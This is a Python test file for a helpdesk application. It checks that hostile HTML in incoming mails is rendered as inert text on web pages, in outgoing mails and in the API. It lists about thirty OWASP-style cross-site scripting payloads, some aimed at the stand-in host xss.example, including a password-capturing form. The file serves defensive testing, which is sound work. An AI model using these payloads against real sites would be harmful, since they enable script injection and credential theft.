"""What a mail brings along as HTML, and what of it reaches a page or another mail."""

from email import message_from_bytes, policy

import pytest

from stafette.channels.mail import actions
from stafette.channels.mail.models import Arrival, Delivery
from stafette.tickets import actions as tickets
from stafette.tickets.actions import Words
from stafette.tickets.models import Message, Ticket
from tests.desk.visitors import browser
from tests.mail.mails import arrived, mail
from tests.mail.mails import desk as small_desk
from tests.people_of_the_story import NINE, agent
from tests.security.marks import PAYLOAD, foreign_in
from tests.security.whole_desk import asked

pytestmark = pytest.mark.django_db
# After OWASP's filter evasion list: broken and nested tags, events, addresses, styles, htmx.
HOSTILE = [
    "<script>xss()</script>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<img src=x onerror=xss()>",
    '<img """><script>xss()</script>">',
    "<svg/onload=xss()>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<body onload=xss()>",
    "<iframe src=javascript:xss()></iframe>",
    "<iframe srcdoc='<script>xss()</script>'></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=//xss.example/x.swf>",
    "<a href=javascript:xss()>x</a>",
    "<a href='jav&#x09;ascript:xss()'>x</a>",
    "<a href=' &#14; javascript:xss()'>x</a>",
    "<form action=//xss.example><input name=password><button>x</button></form>",
    "<button formaction=javascript:xss()>x</button>",
    "<base href=//xss.example/>",
    "<meta http-equiv=refresh content='0;url=//xss.example'>",
    "<link rel=stylesheet href=//xss.example/x.css>",
    "<style>@import '//xss.example'; body{position:fixed}</style>",
    "<div style='background:url(//xss.example)'>x</div>",
    "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>",
    "<video poster=//xss.example/p><source onerror=xss()></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<!--[if gte IE 4]><script>xss()</script><![endif]-->",
    "<![CDATA[<script>xss()</script>]]>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "<p hx-get=/sign-out/ hx-trigger=load data-hx-post=/x>x</p>",
    "<p class='btn primary' id=status data-key=r data-href=//xss.example data-part=x>x</p>",
    "<img src=//xss.example/pixel.gif srcset='//xss.example/2 2x'>",
    PAYLOAD.format(mark=1),
]
LOADED = ("src=", "srcset=", "background=", "poster=", "action=", "data-href=", "hx-")


def html_mail(body: str) -> bytes:
    return mail(body, content_type="text/html; charset=utf-8", mime_version="1.0")


def both(body: str) -> bytes:
    """Harmless as text, hostile as HTML."""
    lines = ["--cut", "", "The text.", "--cut", "Content-Type: text/html", "", body, "--cut--"]
    return mail("\r\n".join(lines), content_type="multipart/alternative; boundary=cut")


def seen_pages(ticket: Ticket) -> dict[str, str]:
    anna = agent("Anna Krug", ticket.legs.get().team)
    inside, outside = browser(anna), browser(ticket.requester)
    ends = ("", "live/", "suggestions/", "hand-over/", "solve/", "capture/")
    answers = {f"/tickets/{end}": asked(inside, f"/tickets/{ticket.pk}/{end}") for end in ends}
    answers["/queue/"] = asked(inside, "/queue/")
    answers["/requests/"] = asked(outside, f"/requests/{ticket.pk}/")
    for message in Message.objects.filter(ticket=ticket).exclude(html="").order_by("pk")[:2]:
        for client, root in ((inside, "tickets"), (outside, "requests")):
            path = f"/{root}/{ticket.pk}/messages/{message.pk}/form/"
            answers[path] = asked(client, path)
            answers[path].page = answers[path].page.partition("<body>")[2]
    for arrival in Arrival.objects.filter(ticket=ticket):
        path = f"/tickets/{ticket.pk}/messages/{arrival.message_id}/original/"
        answers[path] = asked(inside, path)
    assert {answer.status_code for answer in answers.values()} == {200}
    return {path: answer.page for path, answer in answers.items()}


def foreign_elements(ticket: Ticket) -> dict[str, list[str]]:
    return {path: it for path, page in seen_pages(ticket).items() if (it := foreign_in(page))}


@pytest.mark.parametrize("around", [html_mail, both])
def test_html_of_a_mail_is_never_an_element_of_a_page(around):
    """A001, A002, A003, A014, A016, A018."""
    small_desk()
    arrival = arrived(around("<p>Hello</p>" + "\n".join(HOSTILE)))
    ticket = Ticket.objects.get(pk=arrival.ticket_id)
    assert Message.objects.filter(ticket=ticket, html__contains="onerror").exists()
    assert foreign_elements(ticket) == {}


def test_each_hostile_piece_alone_stays_text():
    """A002: what hides behind a broken neighbour in the long mail."""
    small_desk()
    first = arrived(html_mail("<p>Hello</p>"))
    ticket = Ticket.objects.get(pk=first.ticket_id)
    for piece in HOSTILE:
        for text in (piece, f"<p>{piece}</p>"):
            words = Words(text=text, html=text)
            tickets.receive(ticket=ticket, words=words, by=ticket.requester, at=NINE)
    assert foreign_elements(ticket) == {}


def test_opening_a_mail_fetches_nothing_from_outside():
    """A015: no picture, style or preconnection leads anywhere but to ourselves."""
    small_desk()
    arrival = arrived(html_mail("<p>Hello</p>" + "\n".join(HOSTILE)))
    ticket = Ticket.objects.get(pk=arrival.ticket_id)
    for page in seen_pages(ticket).values():
        lead = [name for name in LOADED if f"{name}//xss" in page or f'{name}"//xss' in page]
        assert lead == []


def test_words_of_a_requester_leave_in_no_mail_as_markup():
    """A019: subject, name and quoted words in what we send, in the notice as in the answer."""
    box = small_desk()
    said = PAYLOAD.format(mark=7)
    name = said.replace('"', '\\"')
    sender = {"from": f'"{name}" <ben@kunde.example>'}
    arrival = arrived(mail(said, subject=f"Help {said}", **sender))
    ticket = Ticket.objects.get(pk=arrival.ticket_id)
    box.signature = said
    box.save()
    anna = agent("Anna <xss9 onxss=1>", ticket.legs.get().team)
    told = tickets.reply(ticket=ticket, words=Words(text=f"> {said}"), by=anna, at=NINE)
    automatic = tickets.send_automatic(ticket=ticket, text=f"About {ticket.subject}", at=NINE)
    for message in (told, automatic):
        actions.queue(message_id=message.pk, at=NINE)
    for delivery in Delivery.objects.all():
        actions.send(delivery_id=delivery.pk, at=NINE)
        delivery.refresh_from_db()
        sent = message_from_bytes(bytes(delivery.demo_content), policy=policy.default)
        html = sent.get_body(["html"]).get_content()
        assert "xss7 onxss=1" in html
        assert foreign_in(html) == []
    assert Delivery.objects.count() == 2


def test_the_api_tells_no_html_and_no_browser_takes_its_json_for_a_page():
    """A001 for programs: JSON with nosniff, the HTML of a mail is not part of a message."""
    from tests.api.program import Program  # noqa: PLC0415 -- ninja costs time, once here

    small_desk()
    arrival = arrived(both("<script>xss()</script>"))
    ticket = Ticket.objects.get(pk=arrival.ticket_id)
    answer = Program(ticket.requester).send("GET", f"/tickets/{ticket.pk}/messages")
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert b"script" not in answer.content
